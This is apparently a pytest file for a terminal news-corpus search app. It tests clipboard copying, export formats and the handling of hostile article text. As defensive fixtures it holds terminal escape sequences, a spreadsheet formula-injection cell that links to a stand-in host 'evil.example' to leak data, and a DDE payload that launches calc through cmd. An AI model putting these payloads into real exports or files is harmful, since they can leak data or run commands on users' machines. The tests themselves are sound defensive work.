"""Pilot tests of copying, exporting, and of hostile article text."""

from __future__ import annotations

import base64
import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from textual.widgets import Static

from tests.app_fixtures import CORPUS, export_to, ready, search, settle
from tui.app import make_app
from tui.clipboard import osc52
from tui.screens.warnings import WarningsScreen
from tui.widgets.reader import Reader
from tui.widgets.results import ResultList

HOSTILE = (
    "Hostile [bold]title[/bold]\n\n"
    "Markup test [bold]bold[/bold] and [/foo] and [red on blue]x[/] "
    "and \\[escaped] backslash \\\n\n"
    "Escape test \x1b[31mred\x1b[0m bell\x07 clear\x1b[2J home\x1b[H osc\x1b]0;title\x07 end.\n"
)


async def _copy(
    pilot: object, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> tuple[list[str], list[str]]:
    """Press y; return what went to Textual's clipboard call and what straight to the tty."""
    copied: list[str] = []
    raw: list[str] = []
    app = pilot.app  # type: ignore[attr-defined]
    copy_to_clipboard = app.copy_to_clipboard

    def recorded(text: str) -> None:
        copied.append(text)
        copy_to_clipboard(text)

    monkeypatch.setattr(app, "copy_to_clipboard", recorded)
    monkeypatch.setattr("tui.clipboard.write_to_terminal", raw.append)
    monkeypatch.setattr("tui.clipboard.clipboard_file", lambda: tmp_path / "clipboard.txt")
    await pilot.press("y")  # type: ignore[attr-defined]
    return copied, raw


@pytest.mark.parametrize("tmux", [False, True])
async def test_copy_sends_osc52_with_the_citation_and_tmux_passthrough_beside_it(
    cache_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tmux: bool
) -> None:
    if tmux:
        monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
    else:
        monkeypatch.delenv("TMUX", raising=False)
    app = make_app(CORPUS, cache_root)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await search(pilot, "wall")
        await pilot.press("enter")
        hit = app.screen.query_one(ResultList).current
        copied, raw = await _copy(pilot, monkeypatch, tmp_path)
        status = str(app.screen.query_one("#status-text").render())
        [text] = copied
        assert app.clipboard == text
    if tmux:
        [sequence] = raw
        assert sequence == osc52(text, tmux=True)
        assert sequence.startswith("\x1bPtmux;\x1b\x1b]52;c;") and sequence.endswith("\x1b\\")
        payload = sequence.split(";c;")[1].split("\a")[0]
        assert base64.b64decode(payload).decode("utf-8") == text
    else:
        assert raw == []
    assert hit is not None and hit.doc in text and hit.source in text and hit.date in text
    assert f"{hit.start}–{hit.end}" in text
    assert (tmp_path / "clipboard.txt").read_text(encoding="utf-8").strip() == text
    assert status.startswith("OSC 52 sent (plain + tmux); " if tmux else "OSC 52 sent; ")
    assert status.endswith("; saved in " + str(tmp_path / "clipboard.txt"))


@pytest.mark.parametrize("fmt,position", [("markdown", 0), ("csv", 1), ("json", 2)])
async def test_export_writes_the_results(
    cache_root: Path, tmp_path: Path, fmt: str, position: int
) -> None:
    app = make_app(CORPUS, cache_root)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await search(pilot, "wall")
        count = len(app.screen.query_one(ResultList).hits)
        await pilot.press("enter", "e")
        await settle(pilot)
        dialog = app.screen
        dialog.query_one("#export-folder").value = str(tmp_path / "out")
        dialog.query("RadioButton")[position].value = True
        await pilot.pause()
        await pilot.click("#export-ok")
        await settle(pilot)
    path = tmp_path / "out" / f"borderlens-results.{ {'markdown': 'md'}.get(fmt, fmt) }"
    text = path.read_text(encoding="utf-8")
    if fmt == "json":
        data = json.loads(text)
        assert len(data["rows"]) == count and data["query"] == "wall"
        assert data["corpus"] == str(CORPUS) and data["exported"]
    elif fmt == "csv":
        comment, *table = text.splitlines()
        assert comment.startswith("# query: wall; actor filters: none; corpus: ")
        assert len(list(csv.DictReader(table))) == count
    else:
        assert text.startswith("# borderlens results\n\n> query: wall; actor filters: none")
        assert text.count("\n| ") == count + 1


async def test_hostile_text_renders_as_text(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    app = make_app(corpus, tmp_path / "cache")
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        await search(pilot, "test")
        hits = app.screen.query_one(ResultList).hits
        assert len(hits) == 2
        await pilot.press("enter", "enter", "o")
        await settle(pilot)
        shown = app.screen.query_one(Reader).article.shown_text()
        assert "[bold]bold[/bold]" in shown and "[/foo]" in shown and "\\[escaped]" in shown
        assert "\x1b" not in shown and "\x07" not in shown and "␛[31mred" in shown
        screen_text = app.export_screenshot()
        assert "[/foo]" in screen_text and "\x1b[2J" not in screen_text


async def test_loading_warnings_are_notified_and_listed(
    tmp_path: Path, write_corpus: Callable[[dict[str, str | bytes]], Path]
) -> None:
    corpus = write_corpus(
        {
            "bad[bold].txt": b"Border guards met at the wall \xff\xfe here.\n",
            "x.txt": "The wall runs along the border.\n",
            "x.toml": 'source = "unclosed\n',
        }
    )
    app = make_app(corpus, tmp_path / "cache")
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        status = str(app.screen.query_one("#status-text").render())
        assert "2 warnings — w lists them (Esc first, from a box)" in status
        [note] = app._notifications
        assert not note.markup and note.severity == "warning"
        assert "bad[bold].txt" in note.message and "x.toml" in note.message
        await pilot.press("escape", "w")
        assert isinstance(app.screen, WarningsScreen)
        listed = str(app.screen.query_one(Static).render())
        assert "bad[bold].txt: not UTF-8" in listed and "x.toml: metadata ignored" in listed
        await pilot.press("escape")
        assert not isinstance(app.screen, WarningsScreen)


async def test_export_by_keys_alone_enter_on_a_format_exports_it(
    cache_root: Path, tmp_path: Path
) -> None:
    app = make_app(CORPUS, cache_root)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        export_to(app, tmp_path / "out")
        await search(pilot, "plunges")
        await pilot.press("enter", "e")
        await settle(pilot)
        dialog = app.screen
        assert str(dialog.query_one("#export-title").render()) == "Export 1 result"
        await pilot.press("down", "enter")  # the second format, CSV, then export
        await settle(pilot)
        assert app.screen is not dialog
        written = tmp_path / "out" / "borderlens-results.csv"
        assert written.is_file()
        written.write_text("kept?", encoding="utf-8")
        await pilot.press("e", "down", "enter")  # the file exists: a warning first
        await settle(pilot)
        dialog = app.screen
        assert str(dialog.query_one("#export-ok").label) == "Overwrite"
        assert written.read_text(encoding="utf-8") == "kept?"
        await pilot.press("enter")  # then Enter again overwrites it
        await settle(pilot)
        assert app.screen is not dialog
    assert written.read_text(encoding="utf-8").startswith("# query: plunges")


async def test_a_quotes_export_names_the_quotes_filter_not_the_search_s_query(
    cache_root: Path, tmp_path: Path
) -> None:
    app = make_app(CORPUS, cache_root)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        export_to(app, tmp_path / "out")
        await search(pilot, "Netanyahu")
        await pilot.press("escape", "4", "e")
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        written = tmp_path / "out" / "borderlens-quotes.md"
        assert "> query: (none);" in written.read_text(encoding="utf-8")
        written.unlink()
        await pilot.press("slash", *"wall", "escape", "e")
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert "> query: wall;" in written.read_text(encoding="utf-8")


FORMULA = '=HYPERLINK("http://evil.example","click")'
"""A cell a spreadsheet runs as a formula (a link that leaks what it is sent)."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""


async def _export_by_keys(pilot: object, fmt: int) -> None:
    """Export the view's items in the `fmt`-th format (0 Markdown, 1 CSV, 2 JSON)."""
    await pilot.press("e")  # type: ignore[attr-defined]
    await settle(pilot)  # type: ignore[arg-type]
    await pilot.press(*["down"] * fmt, "enter")  # type: ignore[attr-defined]
    await settle(pilot)  # type: ignore[arg-type]


def _csv_rows(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV export, after its `#` line."""
    return list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()[1:]))


async def test_a_csv_export_never_starts_a_formula_with_corpus_text(
    tmp_path: Path, write_corpus: Callable[[dict[str, str | bytes]], Path]
) -> None:
    corpus = write_corpus(
        {
            "evil.txt": f"{FORMULA} the wall is long.\n\n"
            "The temperature at the wall fell to -3 degrees on Monday.\n",
            "evil.toml": f"source = '{FORMULA}'\ntitle = \"+cmd|' /C calc'!A0\"\n",
        }
    )
    app = make_app(corpus, tmp_path / "cache")
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        export_to(app, tmp_path / "out")
        await search(pilot, "wall")
        await pilot.press("enter")
        await _export_by_keys(pilot, 1)
        await pilot.press("escape", "f")
        await settle(pilot)
        await _export_by_keys(pilot, 1)
    results = _csv_rows(tmp_path / "out" / "borderlens-results.csv")
    texts = [r[k] for r in results for k in ("doc", "title", "source", "text", "actors")]
    assert not any(t.startswith(FORMULA_STARTS) for t in texts)
    assert results[0]["text"].startswith("'=HYPERLINK(") and results[0]["start"] == "0"
    assert {(r["title"], r["source"]) for r in results} == {("'+cmd|' /C calc'!A0", "'" + FORMULA)}
    figures = _csv_rows(tmp_path / "out" / "borderlens-figures.csv")
    [cold] = [r for r in figures if "temperature" in r["context"]]
    assert cold["value"] == "-3 °C" and cold["source"] == "'" + FORMULA
    assert (cold["number"], cold["unit"], cold["number_max"]) == ("-3.0", "°C", "")
    assert cold["measure_id"] and not cold["measure_id"].startswith("'")


async def test_exports_say_which_text_they_hold_and_json_keeps_the_original(
    cache_root: Path, tmp_path: Path
) -> None:
    fused, repaired = "substantialinvestments", "substantial investments"
    file = (CORPUS / "000_20b81c80feff52ed.txt").read_text(encoding="utf-8")
    out = tmp_path / "out"
    app = make_app(CORPUS, cache_root)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        export_to(app, out)
        await search(pilot, "investments")
        await pilot.press("enter")
        for fmt in range(3):
            await _export_by_keys(pilot, fmt)
        md, table, text = (
            (out / f"borderlens-results.{ext}").read_text(encoding="utf-8")
            for ext in ("md", "csv", "json")
        )
        said = "; text: repaired (spaces restored where the file lost them, offsets into the "
        assert said in md.splitlines()[2] and said in table.splitlines()[0]
        data = json.loads(text)
        assert data["text"] == "repaired"
        row = next(r for r in data["rows"] if fused in r["original"])
        assert repaired in row["text"] and row["original"] == file[row["start"] : row["end"]]
        assert row["highlights"] and all(
            row["original"][s - row["start"] : e - row["start"]].lower() == "investments"
            for s, e in row["highlights"]
        )
        await pilot.press("o")
        for ext in ("md", "json"):
            (out / f"borderlens-results.{ext}").unlink()
        await _export_by_keys(pilot, 0)
        await _export_by_keys(pilot, 2)
        md = (out / "borderlens-results.md").read_text(encoding="utf-8")
        assert md.splitlines()[2].endswith("; text: original (as in the file)")
        data = json.loads((out / "borderlens-results.json").read_text(encoding="utf-8"))
        assert data["text"] == "original"
        assert all(r["text"] == r["original"] for r in data["rows"])
        assert any(fused in r["text"] for r in data["rows"])
        await pilot.press("escape", "f")  # the figures' sentences stay repaired
        await settle(pilot)
        await _export_by_keys(pilot, 0)
        assert said in (out / "borderlens-figures.md").read_text(encoding="utf-8")


async def test_an_export_to_a_relative_folder_is_told_and_kept_whole(
    cache_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    app = make_app(CORPUS, cache_root)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        export_to(app, Path("out"))
        await search(pilot, "plunges")
        await pilot.press("escape", "e")
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert (tmp_path / "out" / "borderlens-results.md").is_file()
        assert app.state.state.export_dir == str(tmp_path / "out")  # type: ignore[attr-defined]
